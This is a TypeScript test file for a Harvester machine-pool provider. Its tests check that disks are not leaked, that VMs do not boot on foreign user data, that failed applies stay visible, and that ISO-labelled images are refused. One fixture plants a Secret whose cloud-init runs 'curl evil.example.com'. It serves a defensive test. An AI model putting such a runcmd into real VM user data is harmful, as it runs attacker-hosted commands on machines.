/**
 * What a user must never lose or be surprised by (issue 8): disks of a healed VM are not leaked, a VM never
 * boots on user data we do not own, a failed apply stays visible after a refresh, and an image Harvester
 * labels as an ISO is refused whatever its name.
 */
import assert from 'node:assert/strict';
import { ResourceInitError } from '../../provider/core/errors';
import type { MachinePoolOutputs } from '../../provider/resources/machine-pool/outputs';
import { validateInputs } from '../../provider/resources/machine-pool/validate';
import { eventually } from '../support/emulator-harness';
import { requireEmulator, suiteTimeout } from '../support/target';
import { literal } from './client-support';
import { startPoolHarness, type PoolHarness } from './machine-pool-support';

describe('machine pool: no leaked disks, no foreign user data, failures stay visible', function () {
  this.timeout(suiteTimeout(90_000));
  let h: PoolHarness;
  before(async () => {
    h = await startPoolHarness();
  });
  after(async () => {
    await h?.stop();
  });

  const livePvcs = async (pool: string) => (await h.list('persistentVolumeClaims', pool)).filter((p) => !p.metadata.deletionTimestamp).map((p) => p.metadata.name as string);

  it('heal then delete leaves no PVC of the pool; a refresh reports a stray volume', async () => {
    const pool = h.name('heal');
    const ns = h.namespace;
    const checked = (await h.provider.check({}, h.args(pool, { count: 1 }))).inputs!;
    const { outs } = await h.provider.create(checked);
    const [first] = await livePvcs(pool);
    assert.ok(first);
    // Someone deletes the VM in the Harvester UI (its disk stays: nothing named it for removal).
    await h.client.virtualMachines.delete(`${pool}-0`, { namespace: ns, propagationPolicy: 'Background' });
    await eventually(async () => !(await h.get('virtualMachines', `${pool}-0`)), 'VM gone', h.target.timeouts.waitMs);
    const refreshed = (await h.provider.read(h.id(pool), outs!)).props!;
    assert.ok(refreshed.drift.some((l) => l.includes(`PersistentVolumeClaim ${ns}/${first}`) && /not used by any VM/.test(l)), JSON.stringify(refreshed.drift));
    const healed = (await h.provider.update(h.id(pool), refreshed, checked)).outs!;
    assert.equal(healed.readyCount, 1);
    const afterHeal = await livePvcs(pool);
    assert.equal(afterHeal.length, 1, `the healed pool keeps only its VM's disk: ${afterHeal}`);
    assert.notEqual(afterHeal[0], first, 'the old disk went with the heal');
    assert.deepEqual((await h.provider.read(h.id(pool), healed)).props!.drift, []);
    // A stray volume left before delete goes with the pool too.
    await h.client.virtualMachines.delete(`${pool}-0`, { namespace: ns, propagationPolicy: 'Background' });
    await eventually(async () => !(await h.get('virtualMachines', `${pool}-0`)), 'VM gone', h.target.timeouts.waitMs);
    await h.provider.delete(h.id(pool), healed);
    assert.deepEqual(await livePvcs(pool), [], 'no PVC of the pool is left');
  });

  it('an unowned <vm>-cloudinit Secret stops the scale-up before any VM of that index exists, naming it, its owner and the ways out', async () => {
    const pool = h.name('userdata');
    const ns = h.namespace;
    const created = await h.provider.create((await h.provider.check({}, h.args(pool, { count: 1 }))).inputs!);
    // Someone else's Secret sits where the next VM's user data would go.
    const foreign = `${pool}-1-cloudinit`;
    await h.client.secrets.create({
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name: foreign, namespace: ns, labels: { app: 'someone-else' }, annotations: { 'team.example.com/owner': 'blue' } },
      stringData: { userdata: '#cloud-config\nruncmd: [curl evil.example.com]\n' },
    } as never);
    try {
      const next = await h.provider.check({}, h.args(pool, { count: 2 }));
      assert.deepEqual(next.failures?.map((f) => f.property), ['name'], 'preview names the collision');
      const reason = next.failures![0].reason;
      assert.match(reason, new RegExp(`Secret ${literal(`${ns}/${foreign}`)}`));
      assert.match(reason, /app=someone-else/);
      assert.match(reason, /team\.example\.com\/owner/);
      assert.match(reason, /delete it/);
      assert.match(reason, /import it/);
      assert.ok(!reason.includes('evil'), 'the Secret content is never quoted');
      // Were the preview skipped, the update still refuses before any VM of that index exists.
      const inputs = validateInputs(h.args(pool, { count: 2 })).inputs!;
      const err = await h.provider.update(h.id(pool), created.outs!, inputs as never).catch((e) => e);
      assert.ok(err instanceof ResourceInitError, `the update must fail, recording the pool: ${err}`);
      assert.match(err.message, new RegExp(`^Machine pool ${literal(h.id(pool))} cannot be updated:\n  - name: .*${literal(foreign)}.*\nDelete or import the objects above and run again\\.$`, 's'));
      assert.deepEqual((err.properties as MachinePoolOutputs).drift, [`the last update of pool ${h.id(pool)} did not finish (NameTaken); the next \`pulumi up\` resumes it`]);
      assert.equal(await h.get('virtualMachines', `${pool}-1`), undefined, 'no VM was created on foreign user data');
      assert.equal((await h.get('secrets', foreign))?.metadata.labels?.app, 'someone-else', 'the foreign Secret is untouched');
    } finally {
      await h.client.secrets.delete(foreign, { namespace: ns });
    }
  });

  it('an update that fails with no VM of the pool left still records the pool, and names every taken name on its own line', async () => {
    const pool = h.name('emptied');
    const ns = h.namespace;
    const created = await h.provider.create((await h.provider.check({}, h.args(pool, { count: 1 }))).inputs!);
    await h.client.virtualMachines.delete(`${pool}-0`, { namespace: ns, propagationPolicy: 'Background' });
    await eventually(async () => !(await h.get('virtualMachines', `${pool}-0`)), 'VM gone', h.target.timeouts.waitMs);
    const foreign = [`${pool}-1-cloudinit`, `${pool}-2-cloudinit`];
    for (const name of foreign) {
      await h.client.secrets.create({ apiVersion: 'v1', kind: 'Secret', metadata: { name, namespace: ns, labels: { app: 'someone-else' } }, stringData: { userdata: '#cloud-config\n' } } as never);
    }
    try {
      const inputs = validateInputs(h.args(pool, { count: 3 })).inputs!;
      const err = await h.provider.update(h.id(pool), created.outs!, inputs as never).catch((e) => e);
      assert.ok(err instanceof ResourceInitError, `the pool is recorded even with no VM left: ${err}`);
      assert.match(err.message, new RegExp(`cannot be updated:\n  - name: [^\n]*${literal(foreign[0])}[^\n]*\n  - name: [^\n]*${literal(foreign[1])}[^\n]*\nDelete or import`));
    } finally {
      for (const name of foreign) await h.client.secrets.delete(name, { namespace: ns });
      await h.provider.delete(h.id(pool), created.outs!);
    }
  });

  it('a refresh after a failed apply still shows changes (emulator: fault injection)', async function () {
    requireEmulator(this, h.target);
    const emu = h.target.emulator.emulator;
    const pool = h.name('unfinished');
    const created = await h.provider.create((await h.provider.check({}, h.args(pool, { count: 1 }))).inputs!);
    const next = (await h.provider.check({}, h.args(pool, { count: 1, cpu: 4 }))).inputs!;
    emu.faults.add({ name: 'outage', match: { verb: 'create', resource: 'virtualmachines' }, action: { type: 'error', code: 503 } });
    const err = await h.provider.update(h.id(pool), created.outs!, next).catch((e) => e);
    emu.faults.clear();
    assert.ok(err instanceof ResourceInitError, String(err));
    const recorded = err.properties as MachinePoolOutputs;
    const unfinished = `the last update of pool ${h.id(pool)} did not finish (Unavailable); the next \`pulumi up\` resumes it`;
    assert.deepEqual(recorded.drift, [unfinished], 'the error code names why');
    // A refresh finds the drift anew and keeps the unfinished line (once); findings of earlier reads are not carried over.
    const refreshed = (await h.provider.read(h.id(pool), { ...recorded, drift: [unfinished, 'VirtualMachine x: an old finding', unfinished] })).props!;
    assert.deepEqual(refreshed.drift, [`VirtualMachine ${h.id(pool)}-0: cpu is 2, recorded 4`, unfinished]);
    assert.equal((await h.provider.diff(h.id(pool), refreshed, next)).changes, true, 'the next preview still shows changes');
    const done = (await h.provider.update(h.id(pool), refreshed, next)).outs!;
    assert.deepEqual((await h.provider.read(h.id(pool), done)).props!.drift, [], 'a completed up clears it');
  });

  it('refuses an image Harvester labels harvesterhci.io/image-type: iso, whatever its name (emulator: own image)', async function () {
    requireEmulator(this, h.target);
    const [ns] = h.target.fixtures.cloudImage.split('/');
    const name = h.name('installer');
    const cloud = (await h.client.images.get(h.target.fixtures.cloudImage.split('/')[1], ns))!;
    await h.client.images.create({
      apiVersion: cloud.apiVersion,
      kind: cloud.kind,
      metadata: { name, namespace: ns, labels: { 'harvesterhci.io/image-type': 'iso' } },
      spec: { ...(cloud.spec as Record<string, unknown>), displayName: name, url: 'https://example.com/download?id=42' },
    } as never);
    try {
      const r = await eventually(async () => {
        const c = await h.provider.check({}, h.args(h.name('iso-labelled'), { disks: [{ image: `${ns}/${name}`, size: '20Gi' }] }));
        return c.failures?.some((f) => /ISO installer/.test(f.reason)) ? c : undefined;
      }, 'ISO refusal', h.target.timeouts.waitMs);
      assert.match(r!.failures![0].reason, /harvesterhci\.io\/image-type: iso/);
    } finally {
      await h.client.images.delete(name, { namespace: ns });
    }
  });

  it('guestAgent "none" on an image whose guest runs qemu-guest-agent reports addresses (emulator: image marker); on a plain image it times out (lifecycle test)', async function () {
    requireEmulator(this, h.target);
    const [ns, cloudName] = h.target.fixtures.cloudImage.split('/');
    const name = h.name('agent-image');
    const cloud = (await h.client.images.get(cloudName, ns))!;
    await h.client.images.create({
      apiVersion: cloud.apiVersion,
      kind: cloud.kind,
      metadata: { name, namespace: ns, annotations: { 'emulator.harvester-iac.io/guest-agent-preinstalled': 'true' } },
      spec: { ...(cloud.spec as Record<string, unknown>), displayName: `${name}.qcow2`, url: `https://example.com/${name}.qcow2` },
    } as never);
    const pool = h.name('baked');
    const args = h.args(pool, { count: 1, guestAgent: 'none', userData: '#cloud-config\npackages: [htop]\n', disks: [{ image: `${ns}/${name}`, size: '20Gi' }] });
    const checked = await eventually(async () => {
      const c = await h.provider.check({}, args);
      return c.failures ? undefined : c;
    }, 'image imported', h.target.timeouts.waitMs);
    const { outs } = await h.provider.create(checked.inputs!);
    assert.equal(outs!.readyCount, 1);
    assert.match(outs!.machines[0].ip ?? '', /^\d+\.\d+\.\d+\.\d+$/);
    await h.provider.delete(h.id(pool), outs!);
    await h.client.images.delete(name, { namespace: ns });
  });
});
